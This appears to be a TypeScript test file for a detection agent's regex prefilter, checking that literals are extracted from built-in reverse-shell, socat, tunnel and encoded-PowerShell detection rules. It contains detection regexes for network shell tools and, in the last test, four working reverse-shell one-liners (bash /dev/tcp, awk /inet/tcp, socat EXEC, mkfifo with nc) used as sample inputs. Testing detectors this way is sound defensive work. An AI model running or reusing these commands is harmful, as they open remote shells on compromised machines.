import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { builtinRuleFiles, loadRuleFile, readRuleFile } from '../../../../agent/detect/load.js';
import { literalsOf } from '../../../../agent/detect/prefilter.js';
import { fold, regexClauses } from '../../../../agent/detect/regex-literals.js';

/** Whether every clause has one of its strings in the folded text (what the prefilter requires). */
const holds = (clauses: string[][], text: string): boolean => clauses.every((c) => c.some((l) => fold(text).includes(l)));

test('regex literals: alternations, groups, small classes, repetition and lookaheads are read', () => {
  // The reverse-shell regexes of the built-in rules (config/rules/common.yaml): nothing was known of these before.
  assert.deepEqual(regexClauses('/dev/(tcp|udp)/[^/\\s]+/\\d+'), [['/dev/tcp/', '/dev/udp/']]);
  assert.deepEqual(regexClauses('/inet[46]?/(tcp|udp)/'), [['/inet'], ['/tcp/', '/udp/']]);
  assert.deepEqual(regexClauses('\\b(ba|da|z|k|mk|a)?sh\\s+-i\\b.*\\|\\s*(\\S*/)?openssl\\s+s_client\\b'), [['sh'], ['-i'], ['openssl'], ['s_client']]);
  assert.deepEqual(regexClauses('^(?=[\\s\\S]*\\bperl\\b)(?=[\\s\\S]*(\\bsocket\\s*\\(|IO::Socket))'), [['perl'], ['socket']], 'io::socket holds socket');
  assert.deepEqual(regexClauses('ab{3}c'), [['abbbc']]);
  assert.deepEqual(regexClauses('(?:xy)+z'), [['xy']]);
  assert.deepEqual(regexClauses('\\x41\\x42C'), [['abc']], 'escapes are the characters they stand for, lower-cased');
  assert.deepEqual(regexClauses('ab😀'), [['ab😀']], 'a character outside the BMP, last in the pattern');
  assert.deepEqual(regexClauses('ab\\uD83D\\uDE00c'), [['ab😀c']]);
  assert.deepEqual(regexClauses('ab😀?', 1), [['ab']], 'with u, ? makes the whole pair optional');
});

test('regex literals: what is optional or unknown needs nothing', () => {
  assert.deepEqual(regexClauses('(abc)?d'), []);
  assert.deepEqual(regexClauses('(abc)*'), []);
  assert.deepEqual(regexClauses('abc|.*'), [], 'one branch needs nothing, so the alternation needs nothing');
  assert.deepEqual(regexClauses('(?!evil)x'), []);
  assert.deepEqual(regexClauses('(a)bc\\1'), [], 'backreferences: the pattern is left alone');
  assert.deepEqual(regexClauses('\\u{41}bc'), [], 'without the u flag this is a repeated u');
  assert.deepEqual(regexClauses('[a-z]+\\d'), []);
  assert.ok(regexClauses('\u212aelvin').every((c) => c.every((l) => !l.includes('\u212a'))), 'cased non-ASCII letters are not used');
  assert.deepEqual(regexClauses('a|b'), [], 'one-character strings are left to the regex');
  // Unicode case folding: /socat/iu matches the long s; the folded text has the ASCII literal.
  assert.ok(/socat/iu.test('\u017focat') && holds(regexClauses('socat'), '\u017focat'));
  assert.ok(/k1/iu.test('\u212a1') && holds(regexClauses('k1'), '\u212a1'));
  assert.deepEqual(regexClauses('a|b', 1), [['a', 'b']]);
});

test('regex literals: whenever a regex matches, its clauses hold in the folded text (property)', () => {
  const pieces = ['tcp', 'udp', '/dev/', 'nc', 'sh', 'ocat', 'xec:', ' -e ', 'socat', 'EXEC:', '|', 'ſ', 'ı', 'K', '\u212a', 'İ', 'x', '1', '.'];
  const patterns = [
    'socat', '/dev/(tcp|udp)/', '\\bsocat\\b.*\\b(exec|system):', '(nc|ncat)\\s+-[ec]\\s', 'sh(ell)?\\s*\\|', '[ſs]ocat', 'kelvin|K1',
    '^(?=.*\\bnc\\b)(?=.*sh)', 'x{2}1', '(?:t|u)(?:cp|dp)', 'İx', 'ıx',
  ];
  fc.assert(fc.property(fc.array(fc.constantFrom(...pieces, 'a', ' ', 'E', 'C', 'P', 'S'), { maxLength: 12 }), fc.constantFrom(...patterns), fc.boolean(), (parts, src, ci) => {
    const text = parts.join('');
    for (const flags of ci ? ['i', 'iu'] : ['', 'u']) {
      if (new RegExp(src, flags).test(text)) assert.ok(holds(regexClauses(src, 1), text), `/${src}/${flags} matched ${JSON.stringify(text)}`);
    }
  }), { numRuns: 3000 });
});

test('the built-in reverse-shell, interpreter, socat and tunnel rules now have literals (they ran on every event)', () => {
  const rules = builtinRuleFiles().flatMap(loadRuleFile);
  for (const id of ['pw-reverse-shell-cmdline', 'pw-interpreter-reverse-shell', 'pw-lnx-socat-relay', 'pw-lnx-tunnel-tool', 'pw-win-encoded-powershell']) {
    const r = rules.find((d) => d.meta.id === id);
    assert.ok(r?.literals !== undefined && r.literals.length > 0, id);
  }
  // And the literal sets of every built-in rule hold for the command lines of their own matches (spot check).
  const rs = builtinRuleFiles().flatMap(readRuleFile);
  const shell = rs.find((r) => r.spec.id === 'pw-reverse-shell-cmdline');
  assert.ok(shell);
  const lits = literalsOf(shell.spec.when) ?? [];
  for (const cmd of ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"}\'', 'SOCAT tcp:1.2.3.4:80 EXEC:/bin/sh', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f']) {
    assert.ok(holds(lits, cmd), cmd);
  }
});
